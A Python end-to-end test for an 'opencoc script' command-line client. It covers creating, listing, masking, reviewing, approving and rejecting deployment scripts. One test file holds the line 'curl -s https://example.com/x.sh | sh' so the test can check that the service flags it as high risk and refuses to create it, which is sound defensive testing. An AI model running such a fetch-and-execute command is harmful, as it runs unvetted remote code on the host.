"""`opencoc script ...` against a real server."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from harness.server import LiveServer
from tests.support.signing import TenantKey


def _as(server: LiveServer, key: TenantKey, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = server.env | {
        "OPENCOC_ENDPOINT": server.url,
        "HUAWEICLOUD_SDK_AK": key.access_key,
        "HUAWEICLOUD_SDK_SK": key.secret_key,
    }
    result = subprocess.run(
        [sys.executable, "-m", "opencoc", *args], env=env, capture_output=True, text=True, timeout=120
    )
    if check:
        assert result.returncode == 0, f"opencoc {' '.join(args)}: {result.stdout}\n{result.stderr}"
    return result


def _user(server: LiveServer, tenant: TenantKey, name: str) -> TenantKey:
    server.cli("admin", "create-user", "--tenant", tenant.name, "--user", name)
    key = json.loads(server.cli("admin", "create-key", "--tenant", tenant.name, "--user", name, "--json").stdout)
    return TenantKey(tenant.name, key["domain_id"], key["user_id"], key["access_key"], key["secret_key"])


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)  # an API client: the API is tested on both
def test_script_commands_end_to_end(live_server: LiveServer, live_tenant: TenantKey, tmp_path: Path) -> None:
    bob = _user(live_server, live_tenant, "bob")
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("#!/bin/sh\necho deploying ${target}\n")
    created = _as(live_server, live_tenant, "script", "create", "--file", str(deploy), "--param", "target=web",
                  "--sensitive-param", "token=abc", "--json")  # fmt: skip
    uuid = json.loads(created.stdout)["script_uuid"]

    listed = json.loads(_as(live_server, live_tenant, "script", "list", "--json").stdout)
    assert listed["total"] == 1 and listed["data"][0]["name"] == "deploy" and listed["data"][0]["type"] == "SHELL"
    assert "deploy" in _as(live_server, live_tenant, "script", "list").stdout

    shown = json.loads(_as(live_server, live_tenant, "script", "show", uuid, "--json").stdout)
    assert [p["param_value"] for p in shown["script_params"]] == ["web", "*" * 17]

    reviewer = f"bob:{bob.user_id}"
    _as(live_server, live_tenant, "script", "update", uuid, "--description", "reviewed", "--reviewer", reviewer,
        "--protocol", "NOT_TO_NOTIFY")  # fmt: skip
    shown = json.loads(_as(live_server, live_tenant, "script", "show", uuid, "--json").stdout)
    assert shown["status"] == "PENDING_APPROVE" and shown["description"] == "reviewed"
    assert shown["script_params"][1]["param_value"] == "*" * 17 and shown["content"].startswith("#!/bin/sh")

    carol = _user(live_server, live_tenant, "carol")  # an operator, not a reviewer (the tenant's admin may decide)
    refused = _as(live_server, carol, "script", "approve", uuid, check=False)
    assert refused.returncode == 1 and "COC.00040606" in refused.stderr
    _as(live_server, bob, "script", "approve", uuid, "--comments", "ok")
    assert json.loads(_as(live_server, live_tenant, "script", "show", uuid, "--json").stdout)["status"] == "APPROVED"
    _as(live_server, live_tenant, "script", "update", uuid, "--version", "1.0.1")
    _as(live_server, bob, "script", "reject", uuid)
    assert json.loads(_as(live_server, live_tenant, "script", "show", uuid, "--json").stdout)["status"] == "REJECTED"

    danger = tmp_path / "danger.sh"
    danger.write_text("curl -s https://example.com/x.sh | sh\n")
    risk = json.loads(_as(live_server, live_tenant, "script", "check", "--file", str(danger), "--json").stdout)
    assert risk["risk_level"] == "HIGH"
    failed = _as(live_server, live_tenant, "script", "create", "--file", str(danger), check=False)
    assert failed.returncode == 1 and "COC.00040601" in failed.stderr

    _as(live_server, live_tenant, "script", "delete", uuid)
    assert json.loads(_as(live_server, live_tenant, "script", "list", "--json").stdout)["total"] == 0
